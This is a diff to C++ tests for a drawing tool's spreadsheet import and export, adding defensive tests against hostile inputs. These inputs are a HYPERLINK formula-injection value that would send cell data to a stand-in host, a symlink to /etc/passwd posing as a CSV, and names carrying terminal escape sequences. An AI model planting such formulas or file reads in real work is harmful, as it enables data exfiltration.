@@ -43,6 +43,7 @@ protected:
             const fs::path path = m_dir / file;
             ASSERT_EQ(host({"export", m_project, "-d", drawing, path.extension() == ".csv" ? "--csv" : "--xlsx", path.string()}).exit_code, 0);
         }
+        ASSERT_EQ(host({"export", m_project, "--all", "--xlsx", (m_dir / "all.xlsx").string()}).exit_code, 0);
         m_pristine = ds_file::read_whole_file(m_project);
     }
 
@@ -121,6 +122,10 @@ TEST_F(engineers_edits, each_edit_does_what_was_meant_or_is_refused_and_the_proj
         {"list_bridge_part_empty.xlsx", true, false, utf8(u8"cell A17 \"桥幅\": \"\" may not be empty")},
         {"list_pier_negative.xlsx", true, false, "cell B17"},
         {"list_rows_swapped.xlsx", true, true, "imported"},
+        // One workbook of every drawing: each finds its own sheet by name.
+        {(m_dir / "all.xlsx").string(), false, true, "changes: none"},
+        {(m_dir / "all.xlsx").string(), true, true, "changes: none"},
+        {(m_dir / "all.xlsx").string(), false, false, "holds the table of the drawing", {"--sheet", m_other}},
     };
     for (const edit_case& c : cases) check(c);
 
@@ -142,6 +147,34 @@ TEST_F(engineers_edits, each_edit_does_what_was_meant_or_is_refused_and_the_proj
         {(resaved / "param.xlsx").string(), true, true, "changes: none"},
     };
     for (const edit_case& c : resaves) check(c);
+}
+
+// Files made to harm: a text that a spreadsheet program would run as a
+// formula leaves the CSV export as text and comes back unchanged; a file that
+// is no spreadsheet is refused without repeating what it holds; names with
+// control characters print escaped.
+TEST_F(engineers_edits, hostile_texts_are_neutralised_and_foreign_files_not_quoted)
+{
+    const ds_test::run_result made =
+        ds_test::run_program("/usr/bin/python3", {DS_TEST_DATA_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
+    ASSERT_EQ(made.exit_code, 0) << made.err;
+    const std::string formula = "=HYPERLINK(\"http://x?\"&A1,\"click\")";
+    check({"note_like_a_formula.xlsx", false, true, formula});
+    const fs::path csv = m_dir / "note.csv";
+    ASSERT_EQ(host({"export", m_project, "-d", m_single, "--csv", csv.string()}).exit_code, 0);
+    EXPECT_TRUE(contains(ds_file::read_whole_file(csv), "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"click\"\")\""));
+    m_pristine = ds_file::read_whole_file(m_project);
+    check({csv.string(), false, true, "changes: none"});
+
+    fs::create_symlink("/etc/passwd", m_dir / "passwd.csv");
+    check({(m_dir / "passwd.csv").string(), false, false, "it does not hold a drawing's table"});
+    EXPECT_FALSE(contains(host({"import", m_project, "-d", m_single, "--csv", (m_dir / "passwd.csv").string()}).err, "root"));
+    check({(m_dir / "single.csv").string(), false, false, "the file is UTF-8 text, not GBK", {"--encoding", "gbk"}});
+
+    const ds_test::run_result added = host({"add", m_project, "--name", "x\ny\x1B[2J"});
+    EXPECT_TRUE(contains(added.out, "name=x\\x0Ay\\x1B[2J with its defaults")) << added.out;
+    const ds_test::run_result drawn = host({"draw", m_project, "-d", m_single, "--svg", (m_dir / "o\nut").string()});
+    EXPECT_TRUE(contains(drawn.out, "wrote " + (m_dir / "o\\x0Aut").string())) << drawn.out;
 }
 
 }  // namespace
